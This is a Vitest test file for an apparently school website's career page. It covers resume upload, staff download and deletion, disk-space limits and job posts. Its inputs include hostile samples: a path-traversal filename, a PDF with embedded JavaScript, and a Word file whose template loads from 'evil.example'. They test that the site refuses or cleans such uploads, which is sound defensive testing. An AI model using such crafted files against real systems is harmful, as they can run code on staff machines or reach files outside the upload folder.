import { describe, expect, test } from "vitest";
import { openSite, textOf, tokenOf } from "../support/site";
import { zip } from "../unit/files/containers";

describe("career", () => {
  const pdf = new Blob([`%PDF-1.4\n${"1 0 obj <<>> endobj\n".repeat(20)}trailer\n%%EOF\n`]);
  const withFile = (content: Blob | undefined, name: string, form_token = "") => {
    const body = new FormData();
    body.append("form_token", form_token);
    if (content) body.append("resumeupload", content, name);
    return { body };
  };

  test("the page is not cached, because it has the form of one visitor", async () => {
    const { visitor } = await openSite();
    const response = await visitor().visit("/career");
    expect(response.headers.get("Cache-Control")).toBe("no-store");
  });

  test("a resume is kept, privately, once", async () => {
    const site = await openSite();
    const person = site.visitor();
    const token = tokenOf(await person.get("/career")) ?? "";
    for (let index = 0; index < 3; index += 1) {
      const response = await person.visit("/career", withFile(pdf, "../My résumé.pdf", token));
      expect([response.status, response.headers.get("Location")]).toEqual([303, "/career"]);
    }
    expect(textOf(await person.get("/career"))).toContain("Resume uploaded successfully");
    const rows = await site.db.selectFrom("resumes").selectAll().execute();
    expect(rows).toHaveLength(1);
    const [row] = rows;
    expect(row).toMatchObject({
      original_name: "My résumé.pdf",
      file_type: "application/pdf",
      file_size: pdf.size,
    });

    const path = `/gdapi/uploads/${row?.file_name}`;
    expect((await person.visit(path)).status).toBe(401);
    expect((await person.visit(`/uploads/${row?.file_name}`)).status).toBe(404);
    const clerk = await site.staff();
    const file = await clerk.visit(path);
    expect(file.headers.get("Content-Disposition")).toMatch(/^attachment;/);
    expect((await file.arrayBuffer()).byteLength).toBe(pdf.size);
    const list = textOf(await clerk.get("/dashboard/get-resume"));
    expect(list).toContain("My résumé.pdf");
    expect(list).toMatch(/PDF · 0\.00 MB · \w+ \d+, \d{4}/);
    expect(list).toContain("Files are not scanned for viruses. Open only those that you expect.");
    const log = textOf(await clerk.get("/dashboard/activity"));
    expect(log).toContain("clerk downloaded a resume");
    await clerk.submit(`/dashboard/resume/${row?.id}/delete`, {});
    expect(textOf(await clerk.get("/dashboard/get-resume"))).toContain("No resumes uploaded yet.");
    expect((await clerk.visit(path)).status).toBe(404);
  });

  test("a resume that the disk cannot take leaves everything typed in the form", async () => {
    const site = await openSite();
    site.files.commitFiles = async () => {
      throw Object.assign(new Error("ENOSPC: no space left on device"), { code: "ENOSPC" });
    };
    const { body } = withFile(pdf, "cv.pdf");
    body.append("name", "Rina Das");
    body.append("phone", "98765 43210");
    const refused = await site.visitor().visit("/career", { body });
    const html = await refused.text();
    expect(refused.status).toBe(503);
    expect(html).toContain('value="Rina Das"');
    expect(html).toContain('value="98765 43210"');
  });

  test.each(["DOC-20261125-WA0003.", "DOC-20261125-WA0003"])(
    "a resume that Android calls %s is taken by its content",
    async (name) => {
      const site = await openSite();
      expect((await site.visitor().visit("/career", withFile(pdf, name))).status).toBe(303);
      const row = await site.db.selectFrom("resumes").selectAll().executeTakeFirstOrThrow();
      expect(row).toMatchObject({
        original_name: "DOC-20261125-WA0003.pdf",
        file_type: "application/pdf",
        file_name: expect.stringMatching(/\.pdf$/),
      });
    },
  );

  test.each([
    ["no file", undefined, "", "Please select a file first."],
    [
      "a PDF with a program in it",
      new Blob(["%PDF-1.4\n1 0 obj <</S /JavaScript /JS (app.alert(1))>> endobj\ntrailer\n%%EOF\n"]),
      "cv.pdf",
      "This PDF contains a program, not only pages. Please print it to a new PDF and send that.",
    ],
    [
      "a Word document whose template is elsewhere",
      new Blob([
        new Uint8Array(
          zip({
            "[Content_Types].xml": "<Types/>",
            "word/document.xml": "<w:document/>",
            "word/_rels/settings.xml.rels":
              '<Relationship Type="…/attachedTemplate" Target="https://evil.example/a.dotm" TargetMode="External"/>',
          }),
        ),
      ]),
      "cv.docx",
      "loads something from another computer",
    ],
    ["another kind", new Blob(["hello"]), "cv.txt", "This file is a plain text file. Save it as PDF"],
    ["a disguised file", new Blob(["<html></html>"]), "cv.pdf", "PDF"],
    [
      "more than 5 MB",
      new Blob([`%PDF-1.4\n${"x".repeat(5 * 1024 * 1024)}\n%%EOF`]),
      "cv.pdf",
      "larger than 5 MB",
    ],
  ])("%s is refused in words", async (_, content, name, words) => {
    const site = await openSite();
    const page = await site.visitor().visit("/career", withFile(content, name));
    expect(page.status).toBe(422);
    expect(textOf(await page.text())).toContain(words);
    const old = await site.visitor().visit("/gdapi/resume.php", withFile(content, name));
    expect([old.status, old.headers.get("Content-Type")]).toEqual([422, "text/plain; charset=utf-8"]);
    expect(await old.text()).toContain(words);
    expect(await site.db.selectFrom("resumes").selectAll().execute()).toEqual([]);
  });

  test("reserves the last disk space for the school", async () => {
    const site = await openSite();
    site.files.freeBytes = async () => 254 * 1024 * 1024;
    const refused = await site.visitor().visit("/career", withFile(pdf, "cv.pdf"));
    expect([refused.status, textOf(await refused.text()).includes("send it by e-mail")]).toEqual([503, true]);
    site.files.freeBytes = async () => 256 * 1024 * 1024;
    expect((await site.visitor().visit("/career", withFile(pdf, "cv.pdf"))).status).toBe(303);
  });

  test("uploads that have only begun count against the disk too", async () => {
    const site = await openSite();
    site.files.freeBytes = async () => 264 * 1024 * 1024;
    let end = () => {};
    const slow = new ReadableStream<Uint8Array>({
      start(controller) {
        controller.enqueue(new TextEncoder().encode("--x\r\n"));
        end = () => controller.close();
      },
    });
    const headers = { "Content-Type": "multipart/form-data; boundary=x" };
    const send = () => site.visitor().visit("/career", withFile(pdf, "cv.pdf"));
    const begun = site.visitor().visit("/career", { body: slow, headers });
    // One more fits: two are allowed above the reserve.
    await expect.poll(async () => (await send()).status).toBe(303);
    site.files.freeBytes = async () => 259 * 1024 * 1024;
    expect((await send()).status).toBe(503);
    end();
    await begun;
    expect((await send()).status).toBe(303);
  });

  test("says that no post is open, and lists posts newest first", async () => {
    const site = await openSite();
    expect(textOf(await site.visitor().get("/career"))).toContain("No job openings at the moment.");
    const clerk = await site.staff();
    await clerk.submit("/dashboard/add-job", { title: "First", details: "d".repeat(150) });
    const added = await clerk.submit("/dashboard/add-job", { title: "Second", details: "x".repeat(150) });
    expect(added.headers.get("Location")).toBe("/dashboard");
    expect(textOf(await clerk.get("/dashboard"))).toContain("Post Created Successfully");
    const home = await site.visitor().get("/");
    expect(home).toContain(`${"x".repeat(100)}...<`);
    expect(home).not.toContain("x".repeat(101));
    const { success, data } = await (await site.visitor().visit("/gdapi/get_jobpost.php")).json();
    expect([success, data.map((job: { title: string }) => job.title)]).toEqual([true, ["Second", "First"]]);
    const gone = await clerk.visit("/gdapi/del_jobpost.php?id=2", { method: "DELETE" });
    expect(await gone.json()).toEqual({ success: true, message: "Job Post deleted successfully" });
    await clerk.submit("/dashboard/job/1/delete", {});
    expect(textOf(await clerk.get("/dashboard/deletePost"))).toContain("No Post found");
  });
});
